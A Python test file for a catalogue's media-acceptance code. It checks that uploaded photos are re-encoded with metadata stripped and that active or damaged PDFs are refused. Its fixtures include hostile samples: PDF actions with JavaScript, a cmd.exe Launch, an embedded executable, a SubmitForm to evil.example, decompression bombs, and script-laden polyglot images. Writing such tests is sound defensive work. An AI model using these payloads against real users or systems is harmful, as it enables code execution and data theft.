"""Photos are drawn anew in fixed sizes, papers are still, and everything else is refused with a reason."""

import io
import zlib

import pytest
from PIL import Image, ImageCms

from catalogue.media.acceptance import accept_audio, accept_paper, accept_photo
from catalogue.media.errors import (
    MediaEmpty,
    MediaTooLarge,
    PaperActive,
    PaperDamaged,
    PaperKindUnknown,
    PhotoAnimated,
    PhotoDamaged,
    PhotoHeic,
    PhotoKindUnknown,
    PhotoTooManyPixels,
)
from catalogue.media.kinds import MediaForm
from tests.catalogue.media.clips import CATALOGUE, PAGE, PAGES, mp3, pdf, plain_pdf, stream
from tests.catalogue.media.photos import opened, packed, photo

FOREIGN = b"<script>alert('PK\x03\x04')</script>"


@pytest.mark.parametrize(
    ("size", "sizes"),
    [
        ((2400, 1200), [(320, 160), (640, 320), (1280, 640), (1920, 960)]),
        ((600, 800), [(240, 320), (480, 640), (600, 800)]),
        ((100, 40), [(100, 40)]),
        ((1, 1), [(1, 1)]),
        ((640, 1), [(320, 1), (640, 1)]),
    ],
)
def test_photos_come_in_fixed_sizes_and_are_never_blown_up(
    size: tuple[int, int], sizes: list[tuple[int, int]]
) -> None:
    accepted = accept_photo(photo(*size), "image/jpeg")

    assert [(r.form, r.width, r.height) for r in accepted.renditions] == [
        (form, *expected) for expected in sizes for form in (MediaForm.JPEG, MediaForm.WEBP)
    ]
    for rendition in accepted.renditions:
        picture = opened(rendition.data)
        assert (picture.format, picture.size) == (rendition.form.name, (rendition.width, rendition.height))


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_each_kind_is_taken_and_looks_the_same(form: str) -> None:
    options = {"quality": 95} if form != "PNG" else {}
    for rendition in accept_photo(photo(form=form, **options)).renditions:
        picture = opened(rendition.data)
        left, right = picture.getpixel((5, 5)), picture.getpixel((picture.width - 5, 5))
        assert isinstance(left, tuple)
        assert isinstance(right, tuple)
        assert left == pytest.approx((200, 30, 30), abs=6)
        assert right == pytest.approx((30, 30, 200), abs=6)


@pytest.mark.parametrize(
    ("orientation", "red_at"),
    [
        (1, (5, 50)),
        (2, (95, 50)),
        (3, (95, 50)),
        (4, (5, 50)),
        (5, (50, 5)),
        (6, (50, 5)),
        (7, (50, 95)),
        (8, (50, 95)),
    ],
)
def test_photos_are_turned_upright_and_lose_where_they_were_taken(
    orientation: int, red_at: tuple[int, int]
) -> None:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif.get_ifd(0x8825)[2] = (21.0, 4.0, 33.0)  # GPS latitude
    exif[0x010F] = "SecretPhoneMaker"
    sent = photo(100, 100, exif=exif, comment=FOREIGN)
    assert b"SecretPhoneMaker" in sent
    assert FOREIGN in sent

    for rendition in accept_photo(sent).renditions:
        picture = opened(rendition.data)
        assert not picture.getexif()
        assert picture.info.keys().isdisjoint({"exif", "xmp", "comment", "icc_profile"})
        assert b"SecretPhoneMaker" not in rendition.data
        assert FOREIGN not in rendition.data
        pixel = picture.getpixel(red_at)
        assert isinstance(pixel, tuple)
        assert pixel == pytest.approx((200, 30, 30), abs=12)


def test_colours_of_another_profile_are_converted() -> None:
    # Red and blue change places in this profile, so what is stored as red is meant as blue.
    picture = Image.new("RGB", (64, 64), (250, 0, 0))
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    red, blue = profile.find(b"rXYZ"), profile.find(b"bXYZ")
    profile[red : red + 4], profile[blue : blue + 4] = b"bXYZ", b"rXYZ"

    first = accept_photo(packed(picture, "PNG", icc_profile=bytes(profile))).renditions[0]
    broken = accept_photo(packed(picture, "PNG", icc_profile=b"no profile at all")).renditions[0]

    assert opened(first.data).getpixel((30, 30)) == pytest.approx((0, 0, 250), abs=12)
    assert opened(broken.data).getpixel((30, 30)) == pytest.approx((250, 0, 0), abs=12)


def test_modes_that_browsers_do_not_show_become_plain_colours() -> None:
    grey16 = Image.new("I;16", (40, 40), 200 * 256)
    clear = Image.new("RGBA", (40, 40), (10, 20, 30, 0))
    palette = Image.new("P", (40, 40), 3)
    palette.putpalette([value for colour in range(256) for value in (colour, 0, 0)])
    for picture, colour in (
        (packed(grey16, "PNG"), (200, 200, 200)),
        (packed(clear, "PNG"), (255, 255, 255)),
        (packed(clear, "WEBP", lossless=True), (255, 255, 255)),
        (packed(palette, "PNG", transparency=3), (255, 255, 255)),
        (packed(Image.new("1", (40, 40), 1), "PNG"), (255, 255, 255)),
        (packed(Image.new("LA", (40, 40), (90, 255)), "PNG"), (90, 90, 90)),
        (packed(Image.new("CMYK", (40, 40), (0, 255, 255, 0)), "JPEG"), (254, 0, 0)),
    ):
        rendition = accept_photo(picture).renditions[0]
        shown = opened(rendition.data)
        assert shown.mode == "RGB"
        assert shown.getpixel((20, 20)) == pytest.approx(colour, abs=4)


def test_animated_pictures_are_refused_but_a_phone_s_second_picture_is_left_out() -> None:
    frames = [Image.new("RGB", (20, 20), (value, 0, 0)) for value in (0, 120, 240)]
    for form in ("PNG", "WEBP"):
        with pytest.raises(PhotoAnimated):
            accept_photo(packed(frames[0], form, save_all=True, append_images=frames[1:], duration=50))

    twofold = packed(frames[2], "MPO", save_all=True, append_images=[frames[0]])
    shown = opened(accept_photo(twofold).renditions[0].data)
    assert shown.getpixel((10, 10)) == pytest.approx((240, 0, 0), abs=6)


def test_the_header_alone_tells_that_a_photo_has_too_many_pixels() -> None:
    with pytest.raises(PhotoTooManyPixels) as refusal:
        accept_photo(packed(Image.new("1", (5001, 5000)), "PNG"))

    assert refusal.value.facts == {"width": 5001, "height": 5000, "limit": 25}
    assert accept_photo(packed(Image.new("1", (5000, 5000)), "PNG")).renditions[-1].width == 1920


@pytest.mark.parametrize(
    "data", [b"GIF89a\x01\0", b"<svg xmlns=''/>", b"BM" + bytes(60), b"II*\0", b"\0" * 100, b"MZ"]
)
def test_other_pictures_and_files_are_refused(data: bytes) -> None:
    with pytest.raises(PhotoKindUnknown):
        accept_photo(data)


def test_photos_of_an_iphone_are_refused_with_what_to_do() -> None:
    with pytest.raises(PhotoHeic) as refusal:
        accept_photo(b"\0\0\0\x18ftypheic" + bytes(40))

    assert "Tương thích nhất" in refusal.value.text("vi")


def test_empty_and_oversized_files_are_refused_before_they_are_read() -> None:
    with pytest.raises(MediaEmpty):
        accept_photo(b"")
    for accept, megabytes in ((accept_photo, 8), (accept_audio, 5), (accept_paper, 8)):
        with pytest.raises(MediaTooLarge) as refusal:
            accept(bytes(megabytes * 1024 * 1024 + 1))
        assert refusal.value.facts == {"limit": megabytes}


def test_broken_photos_are_refused() -> None:
    whole = photo(200, 200)
    for data in (whole[:-200], whole[:30], b"\xff\xd8\xff\xe0" + bytes(20), photo(9, 9, "PNG")[:-30]):
        with pytest.raises(PhotoDamaged):
            accept_photo(data)


def test_a_plain_pdf_is_kept_as_it_is_and_a_scan_is_drawn_anew() -> None:
    assert [(r.form, r.data) for r in accept_paper(plain_pdf()).renditions] == [(MediaForm.PDF, plain_pdf())]

    [scan] = accept_paper(photo(3000, 2000, "PNG")).renditions
    assert (scan.form, scan.width, scan.height) == (MediaForm.JPEG, 2480, 1653)


@pytest.mark.parametrize(
    ("name", "action"),
    [
        ("JavaScript", b"<</S /JavaScript /JS (app.alert(1))>>"),
        ("JavaScript", b"<</S /J#61vaScript /JS (app.alert(1))>>"),
        ("Launch", b"<</S/Launch/F(cmd.exe)>>"),
        ("EmbeddedFile", stream(b"/Type /EmbeddedFile", b"MZ")),
        ("SubmitForm", b"<</S /SubmitForm /F (https://evil.example)>>"),
        ("XFA", b"<</XFA 9 0 R>>"),
        (
            "JavaScript",
            stream(
                b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"9 0 <</S /JavaScript>>")
            ),
        ),
        ("JavaScript", stream(b"/Filter /FlateDecode", zlib.compress(bytes(262_140) + b"/JavaScript "))),
    ],
)
def test_a_pdf_that_does_something_is_refused(name: str, action: bytes) -> None:
    with pytest.raises(PaperActive) as refusal:
        accept_paper(pdf(CATALOGUE, PAGES, PAGE, action))

    assert refusal.value.facts == {"name": name}


@pytest.mark.parametrize(
    "data",
    [
        plain_pdf()[:-20],
        b"%PDF-1.7\n",
        pdf(CATALOGUE, trailer=b"/Root 1 0 R /Encrypt 5 0 R"),
        pdf(CATALOGUE, stream(b"/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]", b"GarbageGarbage~>")),
        pdf(CATALOGUE, b"<<>>\nstream\nnever ends"),
        pdf(CATALOGUE, *[stream(b"/Filter /FlateDecode", zlib.compress(bytes(16 << 20), 9))] * 5),
    ],
)
def test_a_pdf_that_cannot_be_looked_through_is_refused(data: bytes) -> None:
    with pytest.raises(PaperDamaged):
        accept_paper(data)


@pytest.mark.parametrize("data", [photo(20, 20, "WEBP"), mp3(), b"PK\x03\x04", b"{\\rtf1"])
def test_other_papers_are_refused(data: bytes) -> None:
    with pytest.raises(PaperKindUnknown):
        accept_paper(data)


def test_files_that_are_two_things_at_once_come_out_as_pictures_alone() -> None:
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("evil.html", FOREIGN)
    for data in (
        photo(50, 50) + FOREIGN,
        photo(50, 50) + archive.getvalue(),
        photo(50, 50, comment=FOREIGN),
        photo(50, 50, "PNG") + FOREIGN,
        photo(50, 50, "WEBP", xmp=FOREIGN),
    ):
        assert FOREIGN[:10] in data
        for rendition in accept_photo(data).renditions:
            assert FOREIGN[:8] not in rendition.data
            assert b"PK\x03\x04" not in rendition.data
            assert opened(rendition.data).size == (50, 50)
